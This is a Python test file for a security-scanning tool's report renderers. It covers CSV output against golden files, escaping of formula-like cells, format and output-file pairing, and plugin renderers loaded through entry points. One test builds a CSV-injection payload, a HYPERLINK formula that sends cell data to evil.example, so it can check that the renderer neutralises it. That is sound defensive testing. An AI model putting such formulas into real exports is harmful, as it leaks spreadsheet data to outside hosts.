"""Formats as a registry: CSV (golden, formula-safe), --format/-o pairing, unknown names,
and third-party renderers through real ``footprint.renderers.v1`` entry points."""

from __future__ import annotations

import csv
import io
import os
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from typer.testing import CliRunner

from footprint import renderers
from footprint.cli.app import app
from footprint.cli.exports import Export, plan
from footprint.errors import UsageError
from footprint.renderers import csv as csv_report
from footprint.renderers import json as json_report
from renderers.reports import hostile_report, sample_report

GOLDEN = Path(__file__).parent.parent / "golden"
EXAMPLE = Path(__file__).parents[2] / "examples" / "renderer"
runner = CliRunner()


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("lang", ["en", "nl"])
def test_csv_matches_golden(lang: str) -> None:
    text = csv_report.render(sample_report(), lang)  # type: ignore[arg-type]
    path = GOLDEN / f"report_{lang}.csv"
    if os.environ.get("FOOTPRINT_UPDATE_GOLDEN"):
        path.write_bytes(text.encode("utf-8"))
    assert text == path.read_bytes().decode("utf-8"), (
        f"{path.name} differs; rerun with FOOTPRINT_UPDATE_GOLDEN=1 after checking the change")


def test_csv_has_one_row_per_finding_then_the_undecided_checks() -> None:
    report = sample_report()
    rows = _rows(csv_report.render(report, "en"))
    assert rows[0] == ["check", "status", "severity", "title", "where", "what to do", "id"]
    body = rows[1:]
    assert [r[6] for r in body[:len(report.findings)]] == [f.id for f in report.findings]
    undecided = body[len(report.findings):]
    assert sorted(r[0] for r in undecided) == sorted(r.check_id for r in report.undecided)
    assert all(r[2] == "" and r[1] in {"inconclusive", "error", "timed out", "skipped"}
               for r in undecided)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_be_formulas_are_prefixed(start: str) -> None:
    payload = f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
    report = hostile_report()
    from dataclasses import replace

    from footprint.models import L10n

    first = report.results[0]
    finding = replace(first.findings[0], title=L10n.same(payload),
                      check_id="web.pages")
    report = replace(report, results=(replace(first, findings=(finding,)),))
    rows = _rows(csv_report.render(report, "en"))
    cell = rows[1][3]
    assert cell.startswith("'") and "\t" not in cell and "\r" not in cell
    assert cell.lstrip("' ").startswith("HYPERLINK") or cell[1] in "=+-@"


def test_hostile_csv_stays_one_row_per_finding_without_control_characters() -> None:
    report = hostile_report()
    text = csv_report.render(report, "en")
    rows = _rows(text)
    assert len(rows) == 1 + len(report.findings) + len(report.undecided)
    assert all(len(r) == 7 for r in rows)
    assert not any(ch in text for ch in "\x1b\x07\x00")


def test_unknown_format_lists_the_known_ones() -> None:
    with pytest.raises(UsageError) as exc:
        renderers.get("yaml")
    assert all(name in str(exc.value) for name in ("markdown", "json", "html", "csv"))


def test_help_and_errors_list_the_formats(tmp_path: Path) -> None:
    for command in ("scan", "demo", "render"):
        shown = runner.invoke(app, [command, "--help"])
        flat = " ".join(shown.stdout.replace("│", " ").split())
        assert "markdown, json, html, csv" in flat, command
    saved = tmp_path / "r.json"
    saved.write_text(json_report.render(sample_report(), "en"), encoding="utf-8")
    result = runner.invoke(app, ["render", str(saved), "--format", "yaml"])
    assert result.exit_code == 2
    assert "unknown format 'yaml'" in result.output and "csv" in result.output


def test_render_pairs_formats_with_outputs_in_order_and_infers_from_extension(
        tmp_path: Path) -> None:
    saved = tmp_path / "r.json"
    saved.write_text(json_report.render(sample_report(), "en"), encoding="utf-8")
    a, b, c = tmp_path / "a.out", tmp_path / "b.out", tmp_path / "c.csv"
    result = runner.invoke(app, ["render", str(saved), "--format", "csv", "-o", str(a),
                                 "--format", "html", "-o", str(b), "-o", str(c)])
    assert result.exit_code == 0, result.output
    assert a.read_text("utf-8").startswith("check,status,")
    assert b.read_text("utf-8").lstrip().lower().startswith("<!doctype html>")
    assert c.read_text("utf-8") == a.read_text("utf-8")
    assert result.stdout == ""  # files only: nothing on the screen
    unknown = runner.invoke(app, ["render", str(saved), "-o", str(tmp_path / "x.yaml")])
    assert unknown.exit_code == 2 and "no format uses '.yaml'" in unknown.output
    screen = runner.invoke(app, ["render", str(saved), "--format", "csv"])
    assert screen.exit_code == 0 and screen.stdout.startswith("check,status,")
    both = runner.invoke(app, ["render", str(saved), "--format", "terminal", "--format", "csv",
                               "-o", str(tmp_path / "d.out")])
    assert both.exit_code == 0 and "Summary" in both.stdout
    assert (tmp_path / "d.out").read_text("utf-8").startswith("check,status,")


def test_scan_and_demo_want_a_file_for_each_format(tmp_path: Path) -> None:
    result = runner.invoke(app, ["demo", "--format", "csv"])
    assert result.exit_code == 2 and "--format csv needs a file" in result.output


def test_demo_writes_csv_beside_the_json_alias(tmp_path: Path) -> None:
    out, js = tmp_path / "demo.csv", tmp_path / "demo.json"
    result = runner.invoke(app, ["demo", "--lang", "nl", "--only", "web.*", "-o", str(out),
                                 "--json", str(js)])
    assert result.exit_code in (0, 1), result.output
    rows = _rows(out.read_text("utf-8"))
    assert rows[0][:3] == ["controle", "status", "ernst"]
    assert len(rows) > 1 and js.exists()


def _dist(tmp_path: Path, name: str, lines: str) -> None:
    info = tmp_path / f"{name}-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 0.1\n")
    (info / "entry_points.txt").write_text(f"[footprint.renderers.v1]\n{lines}\n")


@pytest.fixture
def installed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A site folder on sys.path whose distributions footprint discovers for real."""
    monkeypatch.syspath_prepend(str(EXAMPLE))
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.delenv("FOOTPRINT_DISABLE_PLUGIN_AUTOLOAD", raising=False)
    renderers._formats.cache_clear()
    yield tmp_path
    renderers._formats.cache_clear()
    sys.modules.pop("footprint_example_renderer", None)
    sys.modules.pop("clash_renderer", None)


def test_example_renderer_plugs_in_through_its_entry_point(installed: Path) -> None:
    _dist(installed, "footprint_example_renderer", "todo = footprint_example_renderer:TODO")
    assert "todo" in renderers.names() and "todo" in renderers.listed_names()
    text = renderers.get("todo").render(sample_report(), "en")
    first = text.splitlines()[0]
    assert first.startswith("(B) ") and "@high" in first  # the sample's worst is high
    assert plan([], [Path("list.txt")]) == [Export("todo", Path("list.txt"))]


def test_broken_or_clashing_renderer_plugins_are_reported_not_fatal(installed: Path) -> None:
    (installed / "clash_renderer.py").write_text(
        "from footprint.renderers import Renderer\n"
        "CSV = Renderer('csv', '.csv', lambda report, lang: 'not the built-in')\n")
    _dist(installed, "broken_renderers", "gone = no_such_module:R\n"
          "csv = clash_renderer:CSV\nwrong = footprint_example_renderer:TODO")
    assert renderers.names() == ("markdown", "json", "html", "csv")
    problems = " ".join(renderers.problems())
    assert "'gone' failed to load" in problems
    assert "format 'csv' exists already" in problems
    assert "entry point 'wrong'" in problems
    with pytest.raises(UsageError, match="'gone' failed to load"):
        renderers.get("gone")
    assert renderers.get("csv").render is csv_report.render
    saved = installed / "r.json"
    saved.write_text(json_report.render(sample_report(), "en"), encoding="utf-8")
    result = runner.invoke(app, ["render", str(saved), "--format", "csv"])
    assert result.exit_code == 0 and result.stdout.startswith("check,status,")
    assert "warning: renderer plugin 'gone' failed to load" in result.stderr


def test_checklist_diff_and_summary_take_format_and_output_too(tmp_path: Path) -> None:
    page = tmp_path / "hand-out.htm"
    result = runner.invoke(app, ["checklist", "--lang", "en", "-o", str(page)])
    assert result.exit_code == 0 and result.stdout == ""
    assert page.read_text("utf-8").lstrip().lower().startswith("<!doctype html>")
    shown = runner.invoke(app, ["checklist", "--lang", "en", "--format", "html"])
    assert shown.exit_code == 0 and shown.stdout.lstrip().lower().startswith("<!doctype html>")
    wrong = runner.invoke(app, ["checklist", "--format", "csv"])
    assert wrong.exit_code == 2 and "unknown format 'csv' (known: markdown, html)" in wrong.output
    saved = tmp_path / "r.json"
    saved.write_text(json_report.render(sample_report(), "en"), encoding="utf-8")
    progress = tmp_path / "progress.md"
    result = runner.invoke(app, ["diff", str(saved), str(saved), "--format", "markdown",
                                 "-o", str(progress)])
    assert result.exit_code == 0 and progress.read_text("utf-8").startswith("# ")
    figures = tmp_path / "figures.md"
    result = runner.invoke(app, ["summary", str(saved), "-o", str(figures)])
    assert result.exit_code == 0 and figures.read_text("utf-8").startswith("# ")
    no_file = runner.invoke(app, ["summary", str(saved), "--format", "markdown"])
    assert no_file.exit_code == 2 and "needs a file" in no_file.output
